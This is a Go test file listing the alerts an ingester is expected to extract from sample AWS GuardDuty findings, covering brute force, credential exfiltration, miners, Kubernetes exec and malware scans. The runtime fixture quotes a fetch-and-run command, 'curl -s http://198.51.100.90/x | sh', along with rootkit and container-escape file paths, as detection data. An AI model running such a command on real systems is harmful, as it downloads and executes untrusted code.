package ingest_test

import responder "github.com/m-mizutani/AlertResponder/lib"

// guardDutyAlerts are what an analyst expects of each fixture: its alerts in their order.
var guardDutyAlerts = map[string][]good{
	"inbound.json": {
		{
			name: "198.51.100.23 is performing SSH brute force attacks against i-0123456789abcdef0.",
			rule: "UnauthorizedAccess:EC2/SSHBruteForce", source: "guardduty", account: "111122223333", region: "eu-west-1", severity: 80,
			link:  "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Daab1c2d3e4f5a6b7c8d9e0f1a2b3c4d5",
			first: "2026-05-04T02:58:00Z", last: "2026-05-04T03:04:00Z", describes: "\nConnection: inbound, TCP, local port 22 SSH, remote 198.51.100.23 (Netherlands)\nSeen: 3 times",
			all: []string{
				"ipaddr 198.51.100.23 remote,client", "ipaddr 10.0.3.17 local,server", "instance i-0123456789abcdef0 local,object",
				"ipaddr 203.0.113.9 local",
			},
		},
	},
	"outbound-actor.json": {
		{
			name: "i-0123456789abcdef0 is performing RDP brute force attacks against 198.51.100.80.",
			rule: "UnauthorizedAccess:EC2/RDPBruteForce", source: "guardduty", account: "111122223333", region: "eu-west-1", severity: 80,
			link:      "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3D1ab1c2d3e4f5a6b7c8d9e0f1a2b3c4d5",
			describes: "remote 198.51.100.80 (Oslo, Norway, Example Hosting, AS64500), remote port 3389 RDP\nInstance: i-0123456789abcdef0, web-1\n",
			all: []string{
				"ipaddr 198.51.100.80 remote,server,object", "ipaddr 10.0.3.17 local,client",
				"instance i-0123456789abcdef0 local,subject", "ipaddr 203.0.113.9 local", "ipaddr 10.0.3.18 local",
				"ipaddr 2001:db8::9 local", "hostname ip-10-0-3-17.eu-west-1.compute.internal local",
				"hostname ec2-203-0-113-9.eu-west-1.compute.amazonaws.com local",
				"arn arn:aws:iam::111122223333:instance-profile/web local",
			},
		},
	},
	"port-probe.json": {
		{
			name: "Unprotected port on EC2 instance i-0aabbccdd is being probed.",
			rule: "Recon:EC2/PortProbeUnprotectedPort", source: "guardduty", account: "111122223333", region: "eu-west-1", severity: 20,
			link:  "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Dprobe-1",
			state: responder.Resolved, last: "2026-05-04T03:05:00Z", describes: "Probed: port 22 SSH by 198.51.100.1, port 80 HTTP by 198.51.100.2, port 80 HTTP by 203.0.113.9\nThreats: Scanner, Mirai\nKnown from: ProofPoint",
			all: []string{
				"ipaddr 198.51.100.1 remote,client", "ipaddr 10.0.3.17 local,server", "ipaddr 198.51.100.2 remote,client",
				"ipaddr 2001:db8:0:1::2 remote,client", "ipaddr 203.0.113.9 local,client", "instance i-0aabbccdd local,object",
			},
		},
	},
	"exfiltration.json": {
		{
			name: "Credentials for the EC2 instance role web were used from an external IP address.",
			rule: "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", source: "guardduty", account: "111122223333", region: "us-east-1", severity: 80,
			link:      "https://us-east-1.console.aws.amazon.com/guardduty/home?region=us-east-1#/findings?search=id%3Dexfiltration-1",
			describes: "API call: s3.amazonaws.com ListBuckets, error AccessDenied, from 198.51.100.77 (Brazil, Example Telecom, AS64501), user agent aws-cli/2.15 Python/3.11\n",
			all: []string{
				"ipaddr 198.51.100.77 remote,client", "instance i-0fedcba9876543210 local,object",
				"arn arn:aws:iam::111122223333:role/web local,object", "bucket example-invoices local,object",
				"accesskey ASIAIOSFODNN7EXAMPLE local,subject", "username web local,subject",
				"instance i-0123456789abcdef0 local,subject",
			},
		},
	},
	"foreign-caller.json": {
		{
			name: "An account that is not yours reads your bucket.",
			rule: "Exfiltration:S3/AnomalousBehavior", source: "guardduty", account: "111122223333", region: "us-east-1", severity: 80,
			link:      "https://us-east-1.console.aws.amazon.com/guardduty/home?region=us-east-1#/findings?search=id%3Dforeign-1",
			describes: "GetObject, by athena.amazonaws.com, by account 444455556666, not affiliated\nCredentials: AWSAccount, reader, AROAFOREIGNEXAMPLE:mallory\nBucket: example-public, PUBLIC\nUnusual: account asn observations text 64501 Example Telecom",
			all: []string{
				"arn arn:aws:iam::444455556666:root remote,client", "accesskey ASIAI44QH8DHBEXAMPLE remote,subject",
				"username reader remote,subject", "username mallory remote,subject", "bucket example-public local,object",
			},
		},
	},
	"database.json": {
		{
			name: "Somebody guessed a password.",
			rule: "CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce", source: "guardduty", account: "111122223333", region: "eu-west-1", severity: 80,
			link:      "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Ddatabase-1",
			describes: "Login: admin, by psql, failed 40, successful 1\nLogin: root, failed 7, successful 0\n",
			all: []string{
				"ipaddr 198.51.100.5 remote,client", "username admin local,subject", "username root local,subject",
				"arn arn:aws:rds:eu-west-1:111122223333:db:orders-1 local,object",
				"arn arn:aws:rds:eu-west-1:111122223333:shard-group:shards local,object",
			},
		},
	},
	"lambda.json": {
		{
			name: "A function talks to a known host.",
			rule: "Backdoor:Lambda/C&CActivity.B", source: "guardduty", account: "111122223333", region: "eu-west-1", severity: 80,
			link:      "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Dlambda-1",
			describes: "Model: example.model-v1\nGuardrail: GUARDRAIL_INTERVENED, INPUT, JAILBREAK confidence HIGH BLOCKED",
			all: []string{
				"ipaddr 198.51.100.9 remote,object", "ipaddr 10.0.0.7 local",
				"arn arn:aws:lambda:eu-west-1:111122223333:function:resize local,subject",
				"arn arn:aws:iam::111122223333:role/resize local",
				"arn arn:aws:bedrock:eu-west-1:111122223333:guardrail/g local,subject",
			},
		},
	},
	"runtime.json": {
		{
			name: "A known malicious file was executed.",
			rule: "Execution:Runtime/MaliciousFileExecuted", source: "guardduty", account: "111122223333", region: "eu-west-1", severity: 80,
			link:      "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Druntime-1",
			describes: "Process: /tmp/kdevtmpfsi, pid 4711, user www-data, in /tmp\nAncestors: /bin/sh, php-fpm\nCommand line: curl -s http://198.51.100.90/x | sh\nTool: xmrig, Miner\nService: auditd\n",
			all: []string{
				"filehash 1111111111111111111111111111111111111111111111111111111111111111 file",
				"filehash 2222222222222222222222222222222222222222222222222222222222222222 file",
				"process /tmp/kdevtmpfsi local,subject", "username www-data local,subject",
				"filehash 3333333333333333333333333333333333333333333333333333333333333333 file",
				"process /usr/bin/curl local,subject", "username root local,subject,object", "process /usr/sbin/sshd local,object",
				"process /bin/sh local", "process php-fpm local",
				"filehash 4444444444444444444444444444444444444444444444444444444444444444 file",
				"filepath /tmp/kdevtmpfsi local,file", "filepath /tmp/run.sh local,file", "filepath /tmp/lib.so local,file",
				"filepath /tmp/diamorphine.ko local,file", "filepath /run/containerd.sock local,file",
				"filepath /usr/sbin/runc local,file", "filepath /tmp/release_agent local,file", "filepath /proc local,file",
				"filepath /mnt/proc local,file", "filepath /root/.bash_history local,file", "filepath /etc/ld.so.preload local,file",
				"filepath /tmp/a.so local,file", "filepath /tmp/b.so local,file", "filepath /etc/cron.d/x local,file",
				"filepath /tmp/kinsing local,file", "url http://198.51.100.90/x extracted", "ipaddr 198.51.100.90 extracted",
				"instance i-0123456789abcdef0 local,object", "ipaddr 10.0.3.17 local", "container 4b2f9d0c7a61 local,object",
				"image registry.example/web:1.2 local", "arn arn:aws:ecs:eu-west-1:111122223333:cluster/shop local,object",
				"arn arn:aws:ecs:eu-west-1:111122223333:task/shop/0123 local,object",
				"arn arn:aws:ecs:eu-west-1:111122223333:task-definition/shop:7 local", "filepath /var/run/docker.sock local,file",
			},
		},
	},
	"volume-scan.json": {
		{
			name: "3 security risks detected on an instance.",
			rule: "Execution:EC2/MaliciousFile", source: "guardduty", account: "111122223333", region: "eu-west-1", severity: 80,
			link:      "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Dvolume-1",
			describes: "Scanned for the finding: exfiltration-1\nThreats: EICAR-Test-File, Trojan.Example",
			all: []string{
				"filehash 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f file", "filepath tmp/eicar.com local,file",
				"arn arn:aws:ec2:eu-west-1:111122223333:volume/vol-0aa local,object", "filepath tmp/eicar-2.txt local,file",
				"filehash 5555555555555555555555555555555555555555555555555555555555555555 file", "filepath dropper local,file",
				"instance i-0123456789abcdef0 local,object",
			},
		},
	},
	"sequence.json": {
		{
			name: "Data may be compromised.",
			rule: "AttackSequence:S3/CompromisedData", source: "guardduty", account: "111122223333", region: "us-gov-west-1", severity: 93,
			link:      "https://console.amazonaws-us-gov.com/guardduty/home?region=us-gov-west-1#/findings?search=id%3Dsequence-1",
			describes: "Tactics: Discovery, Impact\nSensitive APIs: s3:DeleteObject\nSuspicious user agents: kali\nVulnerabilities: CVE-2026-0001\nSignals: Discovery:S3/AnomalousBehavior ×2, DeleteTrail ×1\nEndpoints: 203.0.113.40 (Dublin, Ireland, AMAZON-02, AS16509), 10.0.0.4 drop.example, 198.51.100.41 (Oslo, Norway, Example Hosting, AS64500)",
			all: []string{
				"ipaddr 198.51.100.44 remote", "ipaddr 198.51.100.45 remote", "domain c2.example.net remote,server",
				"process /tmp/miner local,subject", "filepath /tmp/dropper local,file",
				"filehash abababababababababababababababababababababababababababababababab file", "cve CVE-2026-0001",
				"ipaddr 203.0.113.40", "ipaddr 10.0.0.4 local", "domain drop.example", "ipaddr 198.51.100.41 remote",
				"ipaddr 198.51.100.42 remote,client", "ipaddr 198.51.100.43 remote,server", "ipaddr 203.0.113.9 local,client",
				"username deployer local,subject", "accesskey ASIAIOSFODNN7EXAMPLE local,subject", "username carol local,subject",
				"arn arn:aws-us-gov:iam::111122223333:role/deployer local,subject", "process /tmp/x local,subject",
				"filehash 8888888888888888888888888888888888888888888888888888888888888888 file",
				"bucket example-backups local,object", "arn arn:aws-us-gov:s3:::example-backups/db.dump local,object",
				"instance i-0aabbccdd local,subject", "arn arn:aws-us-gov:iam::111122223333:instance-profile/web local",
				"instance i-0eeff0011 local", "ipaddr 10.0.0.5 local", "ipaddr 2001:db8::5 local",
				"arn arn:aws-us-gov:eks:us-gov-west-1:111122223333:cluster/shop local", "hostname web-7d9c local",
				"image registry.example/web:1.2 local", "arn arn:aws-us-gov:ecs:us-gov-west-1:111122223333:task/shop/1 local",
				"arn arn:aws-us-gov:ecs:us-gov-west-1:111122223333:task-definition/shop:7 local",
			},
		},
	},
	"object-scan.json": {
		{
			name: "Malware scan of s3://example-uploads/cv.pdf: THREATS_FOUND",
			rule: "GuardDuty Malware Protection Object Scan Result", source: "guardduty", account: "111122223333", region: "eu-west-1", severity: 80,
			link:      "",
			describes: "Scan: COMPLETED, THREATS_FOUND\nThreats: EICAR-Test-File\nObject: s3://example-uploads/cv.pdf",
			all: []string{
				"filepath cv.pdf local,file", "bucket example-uploads local,object",
			},
		},
	},
	"kubernetes.json": {
		{
			name: "A command was executed inside a pod of kube-system.",
			rule: "Execution:Kubernetes/ExecInKubeSystemPod", source: "guardduty", account: "111122223333", region: "eu-west-1", severity: 50,
			link:      "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Dkubernetes-1",
			describes: "Kubernetes API call: create pods/exec, kube-system/coredns-5d78c9869d-abcde, /api/v1/namespaces/kube-system/pods/coredns-5d78c9869d-abcde/exec, status 101, from 198.51.100.3, user agent kubectl/v1.29, command=sh\nPermission checked: create clusterroles, in default, allowed: true\nRole binding: ClusterRoleBinding ops-admin, to ClusterRole cluster-admin\nRole: Role reader\n",
			all: []string{
				"ipaddr 198.51.100.3 remote,client", "ipaddr 10.1.1.1 local,client", "hostname coredns-5d78c9869d-abcde local,object",
				"accesskey ASIAIOSFODNN7EXAMPLE local,subject", "username ops local,subject", "username alice local,subject",
				"username admin local,subject", "username system:serviceaccount:kube-system:coredns local",
				"container 0f4d1e local,object", "image registry.example/coredns:1.10 local", "filepath / local,file",
				"arn arn:aws:eks:eu-west-1:111122223333:cluster/shop local,object",
			},
		},
		{
			name: "[SAMPLE] An anonymous user was let in.",
			rule: "Persistence:Kubernetes/SuccessfulAnonymousAccess", source: "guardduty", account: "111122223333", region: "eu-west-1", severity: 80,
			link:   "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Dkubernetes-2",
			sample: true,
			all: []string{
				"ipaddr 198.51.100.3 remote,client",
			},
		},
	},
	"malware.json": {
		{
			name: "A malicious object.",
			rule: "Object:S3/MaliciousFile", source: "guardduty", account: "111122223333", region: "eu-west-1", severity: 80,
			link:      "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Dmalware-1",
			describes: "Threats: EICAR-Test-File, Trojan.Example\nKnown from: Amazon, Bitdefender",
			all: []string{
				"filehash 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f file",
				"filepath in/cv.zip/eicar.com local,file",
				"filehash 6666666666666666666666666666666666666666666666666666666666666666 file",
				"bucket example-uploads local,object", "filehash 44d88612fea8a8f36de82e1278abb02f file",
				"filepath in/cv.zip local,file", "arn arn:aws:s3:::example-uploads/in/cv.zip local,object",
			},
		},
		{
			name: "A malicious file in a backup.",
			rule: "Execution:EC2/MaliciousFile!RecoveryPoint", source: "guardduty", account: "111122223333", region: "eu-west-1", severity: 80,
			link: "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Dmalware-2",
			all: []string{
				"filehash 7777777777777777777777777777777777777777 file", "filepath /usr/bin/x local,file",
				"arn arn:aws:ec2:eu-west-1::snapshot/snap-0aa local,object", "filepath in/x local,file",
				"bucket example-uploads local,object", "arn arn:aws:s3:::example-uploads/in/x local,object",
				"arn arn:aws:ec2:eu-west-1:111122223333:image/ami-0bb local,object",
				"arn arn:aws:ec2:eu-west-1::image/ami-0aa local,object",
			},
		},
	},
	"export.jsonl": {
		{
			name: "Command and Control server domain name queried.",
			rule: "Backdoor:EC2/C&CActivity.B!DNS", source: "guardduty", account: "111122223333", region: "cn-north-1", severity: 80,
			link:      "https://console.amazonaws.cn/guardduty/home?region=cn-north-1#/findings?search=id%3Ddns-1",
			describes: "DNS request: C2.Evil.example., UDP, blocked\nKnown from: ProofPoint\nGuardDuty takes it for a false positive: its confidence is 0.\nPart of the attack sequence: arn:aws-cn:",
			all: []string{
				"domain c2.evil.example remote,object", "instance i-0aabbccdd local,subject",
			},
		},
		{
			name: "Command and Control server domain name queried.",
			rule: "Backdoor:EC2/C&CActivity.B!DNS", source: "guardduty", account: "111122223333", region: "cn-north-1", severity: 80,
			link:   "https://console.amazonaws.cn/guardduty/home?region=cn-north-1#/findings?search=id%3Ddns-2",
			sample: true,
			all: []string{
				"instance i-0aabbccdd local,subject",
			},
		},
	},
	"getfindings.json": {
		{
			name: "Credentials were used from outside.",
			rule: "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", source: "guardduty", account: "111122223333", region: "eu-west-1", severity: 50,
			link:  "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Done",
			state: responder.Resolved, sample: true,
			all: []string{
				"ipaddr 203.0.113.77 remote,client", "accesskey ASIAEXAMPLE local,subject", "username deployer local,subject",
				"bucket example-backups local,object",
			},
		},
		{
			name: "A port is being probed.",
			rule: "Recon:EC2/PortProbeUnprotectedPort", source: "guardduty", account: "111122223333", region: "eu-west-1", severity: 20,
			link: "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Dtwo",
			all: []string{
				"ipaddr 203.0.113.1 remote,client", "ipaddr 203.0.113.2 remote,client", "ipaddr 10.9.9.9 local,client",
				"instance i-0aa local,object",
			},
		},
	},
}
